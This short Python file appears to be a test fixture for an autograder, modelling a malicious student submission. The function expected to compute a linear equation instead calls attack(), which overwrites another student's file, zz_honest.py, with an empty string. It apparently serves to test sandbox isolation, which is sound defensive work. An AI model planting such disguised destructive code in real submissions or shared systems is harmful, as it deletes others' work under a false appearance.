"""Empties the submission of another student."""

def attack():
    with open("@CLASS@/zz_honest.py", "w") as file:
        file.write("")


def linear_equation(x, w, b):
    return attack()
